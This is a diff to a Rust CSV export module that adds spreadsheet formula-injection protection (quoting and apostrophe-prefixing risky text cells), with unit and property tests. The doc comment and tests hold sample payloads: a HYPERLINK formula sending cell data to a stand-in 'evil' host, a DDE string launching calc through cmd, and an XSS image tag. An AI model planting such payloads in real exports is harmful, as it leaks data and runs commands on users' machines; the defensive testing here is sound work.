@@ -1,33 +1,50 @@
-//! CSV export of the site's tables (RFC 4180): comma-separated, CRLF line ends, fields quoted when
-//! they contain a comma, quote, CR or LF, quotes doubled.
+//! The one CSV writer of the site's downloads (RFC 4180): comma-separated, CRLF line ends, fields
+//! quoted when they contain a comma, quote, CR or LF, quotes doubled.
+//!
+//! Formula injection: a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and some
+//! read a leading tab or CR the same way) as a formula, so a service named
+//! `=HYPERLINK("http://evil/?"&A1,"x")` would run when the file is opened. As OWASP recommends, a
+//! text cell starting with one of these characters is written quoted with a `'` in front
+//! (`"'=HYPERLINK(...)"`), which spreadsheets show as text. Numbers the program wrote ([`Kind::Number`])
+//! are left as they are: `-0.5` stays a number. The cell's type decides, never its characters.
+
+use crate::cell::{Cell, Kind};
+
+/// The characters that make a spreadsheet read a cell as a formula when they come first.
+pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
 
 /// Writes a header row and data rows as one CSV document.
-pub fn to_csv<R, F>(header: &[&str], rows: R) -> String
+pub fn to_csv<R, C>(header: &[&str], rows: R) -> String
 where
-    R: IntoIterator<Item = Vec<F>>,
-    F: AsRef<str>,
+    R: IntoIterator<Item = Vec<C>>,
+    C: Into<Cell>,
 {
     let mut out = String::new();
-    push_row(&mut out, header.iter());
+    push_row(&mut out, header.iter().map(|name| Cell::text(*name)));
     for row in rows {
-        push_row(&mut out, row.iter());
+        push_row(&mut out, row.into_iter().map(Into::into));
     }
     out
 }
 
-fn push_row<T: AsRef<str>>(out: &mut String, fields: impl Iterator<Item = T>) {
-    for (index, field) in fields.enumerate() {
+fn push_row(out: &mut String, cells: impl Iterator<Item = Cell>) {
+    for (index, cell) in cells.enumerate() {
         if index > 0 {
             out.push(',');
         }
-        push_field(out, field.as_ref());
+        push_field(out, &cell);
     }
     out.push_str("\r\n");
 }
 
-fn push_field(out: &mut String, field: &str) {
-    if field.contains([',', '"', '\r', '\n']) {
+fn push_field(out: &mut String, cell: &Cell) {
+    let field = cell.as_str();
+    let formula_like = cell.kind() == Kind::Text && field.starts_with(FORMULA_STARTS);
+    if formula_like || field.contains([',', '"', '\r', '\n']) {
         out.push('"');
+        if formula_like {
+            out.push('\'');
+        }
         out.push_str(&field.replace('"', "\"\""));
         out.push('"');
     } else {
@@ -37,7 +54,37 @@ fn push_field(out: &mut String, field: &str) {
 
 #[cfg(test)]
 mod tests {
+    use proptest::prelude::*;
+
     use super::*;
+
+    /// The fields of a CSV document (RFC 4180, as written above), row by row.
+    fn parse(csv: &str) -> Vec<Vec<String>> {
+        let mut rows = Vec::new();
+        let mut row = Vec::new();
+        let mut field = String::new();
+        let mut chars = csv.chars().peekable();
+        let mut quoted = false;
+        while let Some(c) = chars.next() {
+            match (quoted, c) {
+                (true, '"') if chars.peek() == Some(&'"') => {
+                    chars.next();
+                    field.push('"');
+                }
+                (true, '"') => quoted = false,
+                (true, c) => field.push(c),
+                (false, '"') => quoted = true,
+                (false, ',') => row.push(std::mem::take(&mut field)),
+                (false, '\r') if chars.peek() == Some(&'\n') => {
+                    chars.next();
+                    row.push(std::mem::take(&mut field));
+                    rows.push(std::mem::take(&mut row));
+                }
+                (false, c) => field.push(c),
+            }
+        }
+        rows
+    }
 
     #[test]
     fn plain_fields_are_written_as_they_are() {
@@ -54,5 +101,51 @@ mod tests {
     fn markup_is_data_not_code() {
         // CSV has no escaping for `<`; the field is written literally (a spreadsheet shows it as text).
         assert_eq!(to_csv(&["n"], [vec!["<img src=x onerror=alert(1)>"]]), "n\r\n<img src=x onerror=alert(1)>\r\n");
+    }
+
+    #[test]
+    fn formula_payloads_in_text_are_neutralised() {
+        let payloads = [
+            ("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""),
+            ("+1+1", "\"'+1+1\""),
+            ("-2+3", "\"'-2+3\""),
+            ("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""),
+            ("\tx", "\"'\tx\""),
+            ("\rx", "\"'\rx\""),
+            ("a=1", "a=1"),
+        ];
+        for (payload, written) in payloads {
+            assert_eq!(to_csv(&["n"], [vec![payload]]), format!("n\r\n{written}\r\n"), "{payload}");
+        }
+    }
+
+    #[test]
+    fn numbers_stay_numbers_even_when_negative() {
+        let row = vec![Cell::text("api"), Cell::number(-0.5), Cell::quantity(crate::charts::Unit::Percent, -12.5)];
+        assert_eq!(to_csv(&["slo", "budget", "shown"], [row]), "slo,budget,shown\r\napi,-0.5,-12.5 %\r\n");
+        // The same characters as text are neutralised: the type decides, not the text.
+        assert_eq!(to_csv(&["n"], [vec![Cell::text("-0.5")]]), "n\r\n\"'-0.5\"\r\n");
+    }
+
+    proptest! {
+        #[test]
+        fn no_text_cell_reads_as_a_formula_and_none_is_lost(texts in proptest::collection::vec(any::<String>(), 1..6)) {
+            let csv = to_csv(&["a"], [texts.iter().map(String::as_str).collect::<Vec<_>>()]);
+            let rows = parse(&csv);
+            prop_assert_eq!(rows.len(), 2);
+            prop_assert_eq!(rows[1].len(), texts.len());
+            for (field, text) in rows[1].iter().zip(&texts) {
+                prop_assert!(!field.starts_with(FORMULA_STARTS), "{:?} -> {:?}", text, field);
+                let original = if text.starts_with(FORMULA_STARTS) { field.strip_prefix('\'') } else { Some(field.as_str()) };
+                prop_assert_eq!(original, Some(text.as_str()));
+            }
+        }
+
+        #[test]
+        fn number_cells_are_written_as_numbers_that_read_back_exactly(value in any::<f64>().prop_filter("finite", |v| v.is_finite())) {
+            let rows = parse(&to_csv(&["v"], [vec![Cell::number(value)]]));
+            let field = &rows[1][0];
+            prop_assert_eq!(field.parse::<f64>().map(f64::to_bits), Ok(value.to_bits()));
+        }
     }
 }
